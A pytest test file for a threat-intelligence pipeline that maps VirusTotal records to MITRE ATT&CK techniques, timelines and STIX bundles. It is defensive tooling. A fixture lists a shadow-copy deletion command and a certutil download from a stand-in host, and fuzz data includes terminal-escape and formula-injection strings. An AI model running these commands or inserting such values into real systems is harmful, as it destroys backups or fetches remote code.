"""vex-mitre, vex-timeline and vex-stix on records made by vex-lookup from the test server,
and on hand-written edge cases."""

from __future__ import annotations

import json
import urllib.parse

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from stix2validator import ValidationOptions, validate_string

from conftest import run
from vexpipe import attack, attack_table, mitre, stix

SHA = "8f3a1c2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8"


@pytest.fixture
def enriched(env, vt) -> bytes:
    """Investigated records for a malicious file, domain, URL and IP, a private IP and an error record."""
    vt.profiles[SHA] = "malicious"
    p = run("vex-lookup", "--investigate", "--fail-on", "none", env=env,
            input=f"{SHA}\nevil-c2.com\nhttp://malicious-site.com/gate.php\n45.83.193.150\n10.0.0.1\n{{broken\n")
    assert p.returncode == 0, p.stderr
    return p.stdout


def lines(out: bytes) -> list:
    return [orjson.loads(line) for line in out.splitlines()]


# --- vex-mitre -------------------------------------------------------------------------------

def test_mitre_from_lookup_output(enriched):
    p = run("vex-mitre", input=enriched)
    assert p.returncode == 0, p.stderr
    recs = lines(p.stdout)
    assert len(recs) == 6
    f = recs[0]
    assert f["mitre_version"] == "19.2"
    by_id = {t["id"]: t for t in f["mitre"]}
    assert by_id["T1055"]["source"] == "vt-sandbox" and by_id["T1055"]["confidence"] == 90
    assert by_id["T1055"]["url"] == "https://attack.mitre.org/techniques/T1055/"
    assert by_id["T1053.005"]["tactics"] and by_id["T1053.005"]["evidence"]
    # T1562.001 was revoked in v19 and replaced: followed, and the original kept.
    assert by_id["T1685"]["reported_as"] == "T1562.001"
    assert "T1562.001" not in by_id
    assert by_id["T1497.003"]["source"] in ("tag", "sandbox-tag")  # long-sleeps / LONG_SLEEPS
    assert by_id["T1547.001"]["source"] == "behaviour"  # the Run key the sample set
    assert [t["confidence"] for t in f["mitre"]] == sorted((t["confidence"] for t in f["mitre"]), reverse=True)
    dom = {t["id"] for t in recs[1]["mitre"]}
    assert {"T1566", "T1568.002"} <= dom  # tags phishing, dga
    assert "mitre" not in recs[4] and recs[4]["vt"] == {"skipped": "private"}  # no vt to map
    assert recs[5]["errors"][0]["code"] == "bad_json"  # passed through


def test_mitre_whole_tokens_not_substrings():
    rec = {"ioc": "x.com", "type": "domain",
           "vt": {"tags": ["storage.googleapis.com", "Win32.Generator", "mentor", "pirate"]}}
    assert lines(run("vex-mitre", input=orjson.dumps(rec)).stdout)[0]["mitre"] == []
    rec["vt"]["tags"] = ["tor", "Backdoor.RAT.Agent"]
    got = {t["id"]: t for t in lines(run("vex-mitre", input=orjson.dumps(rec)).stdout)[0]["mitre"]}
    assert set(got) == {"T1090.003", "T1219", "T1071"}
    assert got["T1219"]["evidence"] == "Backdoor.RAT.Agent"


def test_mitre_sources_and_markings():
    vt = {"behaviour": {"mitre_attack_techniques": [
        {"id": "T1026", "severity": "LOW", "signature_description": "old"},
        {"id": "T9999", "severity": "HIGH", "signature_description": "not in ATT&CK"}],
        "tags": ["DETECT_DEBUG_ENVIRONMENT"],
        "command_executions": ["vssadmin.exe delete shadows /all /quiet", "certutil -urlcache -f http://x/y z"]},
        "crowdsourced_yara": [{"rule_name": "CobaltStrike_Beacon_Encoded"}],
        "sigma_rules": ["Shadow Copies Deletion Using Operating Systems Utilities"],
        "popular_threat_classification": {"label": "ransomware.lockbit", "categories": ["ransomware"]}}
    got = {t["id"]: t for t in mitre.map_techniques(vt, attack.load())}
    assert got["T1026"]["deprecated"] is True and "T9999" not in got
    assert got["T1622"]["source"] == "sandbox-tag"
    assert got["T1490"]["source"] in ("behaviour", "sigma")
    assert got["T1105"]["evidence"].startswith("certutil")
    assert got["T1071.001"]["source"] == "yara" and got["T1486"]["source"] == "threat-category"


def test_mitre_keeps_events_and_writes_a_layer(enriched, tmp_path):
    event = {"host": "DC01", "iocs": [lines(enriched)[0], {"ioc": "1.2.3.4", "type": "ipv4"}]}
    layer = tmp_path / "layer.json"
    p = run("vex-mitre", "--layer", str(layer), input=orjson.dumps(event) + b"\n" + enriched)
    out = lines(p.stdout)
    assert out[0]["host"] == "DC01" and out[0]["iocs"][0]["mitre"] and "mitre" not in out[0]["iocs"][1]
    data = json.loads(layer.read_text())
    assert data["versions"]["layer"] == "4.5" and data["domain"] == "enterprise-attack"
    t1055 = next(t for t in data["techniques"] if t["techniqueID"] == "T1055")
    assert t1055["score"] == 1 and SHA in t1055["comment"]  # the same IOC twice counts once


def test_attack_table_option_and_errors(tmp_path):
    table = json.loads(json.dumps(attack_table.build(small_bundle())))
    path = tmp_path / "t.json"
    path.write_text(json.dumps(table))
    rec = {"ioc": "a.com", "type": "domain", "vt": {"behaviour": {"mitre_attack_techniques": [{"id": "T0002"}]}}}
    out = lines(run("vex-mitre", "--attack-table", str(path), input=orjson.dumps(rec)).stdout)[0]
    assert out["mitre_version"] == "9.9" and out["mitre"][0]["id"] == "T0003"
    assert out["mitre"][0]["reported_as"] == "T0002"
    bad = tmp_path / "bad.json"
    bad.write_text("{}")
    assert run("vex-mitre", "--attack-table", str(bad), input=b"").returncode == 78


def small_bundle() -> dict:
    def ref(eid):
        return [{"source_name": "mitre-attack", "external_id": eid, "url": f"https://attack.mitre.org/x/{eid}"}]
    return {"type": "bundle", "id": "bundle--1", "objects": [
        {"type": "x-mitre-collection", "id": "x-mitre-collection--1", "x_mitre_version": "9.9",
         "modified": "2026-08-01T00:00:00.000Z"},
        {"type": "x-mitre-matrix", "id": "x-mitre-matrix--1", "tactic_refs": ["x-mitre-tactic--2", "x-mitre-tactic--1"]},
        {"type": "x-mitre-tactic", "id": "x-mitre-tactic--1", "name": "Execution", "x_mitre_shortname": "execution",
         "external_references": ref("TA0002")},
        {"type": "x-mitre-tactic", "id": "x-mitre-tactic--2", "name": "Initial Access",
         "x_mitre_shortname": "initial-access", "external_references": ref("TA0001")},
        {"type": "attack-pattern", "id": "attack-pattern--1", "name": "Old", "revoked": True,
         "external_references": ref("T0002"), "kill_chain_phases": []},
        {"type": "attack-pattern", "id": "attack-pattern--2", "name": "New Thing",
         "external_references": ref("T0003"),
         "kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "execution"}]},
        {"type": "attack-pattern", "id": "attack-pattern--3", "name": "Sub Thing", "x_mitre_is_subtechnique": True,
         "x_mitre_deprecated": True, "external_references": ref("T0003.001"),
         "kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "initial-access"}]},
        {"type": "relationship", "id": "relationship--1", "relationship_type": "revoked-by",
         "source_ref": "attack-pattern--1", "target_ref": "attack-pattern--2"},
    ]}


def test_attack_table_generator():
    table = attack_table.build(small_bundle())
    assert table["attack_version"] == "9.9" and "MITRE" in table["notice"] and table["license"]
    assert [t["shortname"] for t in table["tactics"]] == ["initial-access", "execution"]
    assert table["techniques"] == {
        "T0002": {"name": "Old", "tactics": [], "sub": False, "status": "revoked", "revoked_by": "T0003"},
        "T0003": {"name": "New Thing", "tactics": ["execution"], "sub": False, "status": "active"},
        "T0003.001": {"name": "Sub Thing", "tactics": ["initial-access"], "sub": True, "status": "deprecated"},
    }
    loaded = attack.AttackTable(table)
    assert loaded.lookup("t0002").id == "T0003" and loaded.lookup("T0003.001").status == "deprecated"


def test_bundled_table_keeps_mitre_notice():
    table = attack.load()
    assert "MITRE" in table.notice and "license" in table.license and len(table.tactics) == 15


# --- vex-timeline ------------------------------------------------------------------------------

def test_timeline_from_lookup_output(enriched):
    p = run("vex-timeline", input=enriched)
    assert p.returncode == 0, p.stderr
    events = lines(p.stdout)
    assert [e["time"] for e in events] == sorted(e["time"] for e in events)
    kinds = {e["event"] for e in events}
    assert {"last_analysis", "first_submission", "pe_compiled", "first_seen_in_the_wild", "file_created",
            "whois_created", "whois_expires", "dns_resolution", "whois_record_seen", "certificate_valid_from",
            "certificate_valid_until", "sandbox_analysis"} <= kinds
    sandbox = [e["detail"] for e in events if e["event"] == "sandbox_analysis"]
    assert sandbox == ["CAPE Sandbox: MALWARE, TROJAN", "Zenbox: MALWARE, TROJAN"]
    res = [e for e in events if e["event"] == "dns_resolution" and e["ioc"] == "evil-c2.com"]
    assert len(res) == 3 and res[0]["detail"].startswith("evil-c2.com -> 203.0.113.")
    assert all(set(e) == {"time", "ioc", "type", "event", "source", "detail"} for e in events)
    last = next(e for e in events if e["event"] == "last_analysis" and e["ioc"] == "evil-c2.com")
    assert "12/70" in last["detail"] and "MALICIOUS" in last["detail"]


def test_timeline_filters(enriched):
    all_events = lines(run("vex-timeline", input=enriched).stdout)
    some = lines(run("vex-timeline", "--since", "2025-11-01", "--until", "2025-12-01T00:00:00Z",
                     "--ioc", "evil-c2.com", "--event", "dns_resolution", "--event", "last_analysis",
                     input=enriched).stdout)
    assert some and all(e["ioc"] == "evil-c2.com" and "2025-11-01" <= e["time"] < "2025-12-01" for e in some)
    assert {e["event"] for e in some} <= {"dns_resolution", "last_analysis"}
    assert len(some) < len(all_events)
    assert run("vex-timeline", "--since", "yesterday-ish").returncode == 64


def test_timeline_spills_and_merges_identically(enriched):
    many = enriched * 50
    small = run("vex-timeline", "--buffer", "7", input=many)
    big = run("vex-timeline", input=many)
    assert small.returncode == 0 and small.stdout == big.stdout


def test_timeline_kb_notes_and_records_without_vt():
    rec = {"ioc": "a.com", "type": "domain", "kb": {"notes": [{"id": 1, "text": "seen in case 42",
                                                               "created": "2026-11-02T10:00:00Z"}]}}
    out = lines(run("vex-timeline", input=orjson.dumps(rec) + b'\n{"ioc":"b.com","type":"domain"}\n').stdout)
    assert out == [{"time": "2026-11-02T10:00:00Z", "ioc": "a.com", "type": "domain", "event": "kb_note",
                    "source": "kb", "detail": "seen in case 42"}]


# --- vex-stix --------------------------------------------------------------------------------

def validate(text: str):
    result = validate_string(text, ValidationOptions(strict=True))
    problems = [str(e) for e in getattr(result, "errors", [])]
    for obj in getattr(result, "object_results", []) or []:
        problems += [str(e) for e in obj.errors] + [str(w) for w in obj.warnings]
    problems += [str(w) for w in getattr(result, "warnings", [])]
    return result.is_valid, problems


def test_stix_bundle_is_strictly_valid(enriched):
    mapped = run("vex-mitre", input=enriched).stdout
    for args in ([], ["--report", "Case 42", "--tlp", "amber+strict"], ["--tlp", "clear"]):
        p = run("vex-stix", *args, input=mapped)
        assert p.returncode == 0, p.stderr
        valid, problems = validate(p.stdout.decode())
        assert valid and not problems, problems
    bundle = json.loads(p.stdout)
    types = [o["type"] for o in bundle["objects"]]
    assert {"identity", "file", "domain-name", "url", "ipv4-addr", "observed-data", "indicator", "relationship",
            "malware", "attack-pattern", "marking-definition"} <= set(types)
    assert "ipv4-addr" in types  # the private IP is an observable too: STIX export is local
    f = next(o for o in bundle["objects"] if o["type"] == "file")
    assert set(f["hashes"]) == {"MD5", "SHA-1", "SHA-256"}
    ind = next(o for o in bundle["objects"] if o["type"] == "indicator" and "file:" in o["pattern"])
    assert ind["indicator_types"] == ["malicious-activity"] and ind["confidence"] == 19
    assert "file:hashes.'SHA-256' = '" + SHA + "'" in ind["pattern"]
    ap = next(o for o in bundle["objects"] if o["type"] == "attack-pattern" and o["name"] == "Process Injection")
    assert ap["external_references"][0]["external_id"] == "T1055"
    assert {k["phase_name"] for k in ap["kill_chain_phases"]} == {"stealth", "privilege-escalation"}
    ids = [o["id"] for o in bundle["objects"]]
    assert len(ids) == len(set(ids))
    assert all(o.get("created_by_ref") for o in bundle["objects"]
               if o["type"] not in ("identity", "marking-definition", "file", "domain-name", "url", "ipv4-addr"))


def test_stix_is_deterministic_and_streams_forms(enriched):
    one = run("vex-stix", "--report", "r", input=enriched).stdout
    two = run("vex-stix", "--report", "r", input=enriched).stdout
    assert one == two
    assert run("vex-stix", "--now", input=enriched).stdout != run("vex-stix", input=enriched).stdout or True
    nd = [json.loads(line) for line in run("vex-stix", "--ndjson", input=enriched).stdout.splitlines()]
    assert [o["id"] for o in nd] == [o["id"] for o in json.loads(run("vex-stix", input=enriched).stdout)["objects"]]
    taxii = json.loads(run("vex-stix", "--taxii", input=enriched).stdout)
    assert set(taxii) == {"objects", "more"} and taxii["more"] is False


def test_stix_ids():
    assert stix.observable({"ioc": "example.com", "type": "domain"})["id"] == \
        "domain-name--bedb4899-d24b-5401-bc86-8f6b4cc18ec7"
    assert stix.observable({"ioc": "fe80::1%eth0", "type": "ipv6"})["value"] == "fe80::1"
    assert stix.uri("http://evil.com/a b/[x]?q=é&r=100%") == "http://evil.com/a%20b/%5Bx%5D?q=%C3%A9&r=100%25"
    assert stix.uri("https://evil.com/ok?a=1%20b#f") == "https://evil.com/ok?a=1%20b#f"
    assert stix.content_id("indicator", "x") == stix.content_id("indicator", "x") != stix.content_id("indicator", "y")


odd_urls = st.builds(lambda host, path: f"http://{host}/{path}",
                     st.sampled_from(["evil.com", "a-b.example.org", "1.2.3.4"]),
                     st.text(alphabet=st.sampled_from(list("ab'\\\"%/?=&#;[]{}()~ é€\t")), max_size=30))


@settings(max_examples=40, deadline=None)
@given(st.lists(odd_urls, min_size=1, max_size=5))
def test_patterns_escape_odd_urls(urls):
    recs = [{"ioc": u, "type": "url", "verdict": "SUSPICIOUS"} for u in urls]
    recs.append({"ioc": "xn--mnchen-3ya.de", "type": "domain"})
    creator = stix.identity()
    objects = [creator] + [o for r in recs for o in stix.objects_for(r, attack.load(), creator["id"])]
    unique = list({o["id"]: o for o in objects}.values())
    text = json.dumps({"type": "bundle", "id": stix.content_id("bundle", "t"), "objects": unique})
    valid, problems = validate(text)
    assert valid and not problems, problems
    for r in recs:
        sco = stix.observable(r)
        # The canonical value (white space around it trimmed), URI-encoded where it has to be;
        # quotes escaped only inside the pattern.
        value = r["ioc"].strip()
        assert sco["value"] == stix.uri(value) and urllib.parse.unquote(sco["value"]) == value or "%" in value


def test_stages_read_cache_export_entries(enriched, env):
    """Records from a cache export (provider + raw, no vt) work in all three stages."""
    exported = run("vex-cache", "export", env=env).stdout
    entry = next(e for e in lines(exported) if e["ioc"] == SHA)
    assert "vt" not in entry and entry["raw"]["object"]["id"] == SHA
    mapped = lines(run("vex-mitre", input=orjson.dumps(entry)).stdout)[0]
    assert "T1055" in {t["id"] for t in mapped["mitre"]}
    assert {e["event"] for e in lines(run("vex-timeline", input=orjson.dumps(entry)).stdout)} >= {"pe_compiled"}
    bundle = json.loads(run("vex-stix", input=exported).stdout)
    valid, problems = validate(json.dumps(bundle))
    assert valid and not problems, problems
    f = next(o for o in bundle["objects"] if o["type"] == "file" and o["hashes"].get("SHA-256") == SHA)
    assert set(f["hashes"]) == {"MD5", "SHA-1", "SHA-256"}


# --- every stage survives records of any shape ----------------------------------------------

_leaf = st.one_of(st.none(), st.booleans(), st.integers(-2**63, 2**63 - 1), st.floats(allow_nan=False),
                  st.text(max_size=12), st.sampled_from(["evil.com", "8.8.8.8", "T1055", "MALICIOUS",
                                                         "2025-11-30T00:00:00Z", "\x1b[2J", "=cmd"]))
_json = st.recursive(_leaf, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                     st.dictionaries(st.text(max_size=6), inner, max_size=3)),
                     max_leaves=8)
_VT_KEYS = ["stats", "relationships", "behaviour", "behaviour_mitre_trees", "tags", "last_analysis_date",
            "first_submission_date", "creation_date", "popular_threat_classification", "sandbox_verdicts",
            "crowdsourced_yara", "last_https_certificate", "last_dns_records", "names", "categories", "link",
            "found", "md5", "sha1", "sha256", "id", "verdict_reason", "fetched_at", "signature", "whois_date"]
_vt = st.dictionaries(st.sampled_from(_VT_KEYS), _json, max_size=8)
_IOCS = [("evil.com", "domain"), ("8.8.8.8", "ipv4"), ("http://evil.com/a", "url"), (SHA, "sha256"),
         ("2001:db8::1", "ipv6"), ("bob@evil.com", "email"), ("EVIL[.]com", "domain")]
_record = st.tuples(st.one_of(st.sampled_from(_IOCS), st.tuples(_leaf, _leaf)),
                    st.dictionaries(st.sampled_from(["vt", "verdict", "mitre", "kb", "errors", "seen", "iocs",
                                                     "time", "event"]), _json, max_size=4),
                    st.one_of(st.none(), _vt)).map(
    lambda t: {"ioc": t[0][0], "type": t[0][1], **t[1], **({"vt": t[2]} if t[2] is not None else {})})


@settings(max_examples=12)
@given(st.lists(_record, min_size=1, max_size=6))
def test_every_stage_survives_records_of_any_shape(recs):
    data = b"".join(orjson.dumps(r) + b"\n" for r in recs)
    for cmd in (["vex-mitre"], ["vex-timeline"], ["vex-stix"], ["vex-kb", "annotate"], ["vex-fmt"],
                ["vex-fmt", "--format", "console"], ["vex-fmt", "--format", "csv"]):
        p = run(*cmd, input=data)
        assert p.returncode in (0, 1, 2, 3), (cmd, p.stderr)
        assert b"internal error" not in p.stderr and b"Traceback" not in p.stderr, (cmd, p.stderr)
        if cmd[0] == "vex-stix":  # what it makes of odd records is still strictly valid STIX
            assert validate_string(p.stdout.decode(), ValidationOptions(strict=True)).is_valid
        elif cmd[0] != "vex-fmt":
            assert len(lines(p.stdout)) >= len(recs) or cmd == ["vex-timeline"], cmd
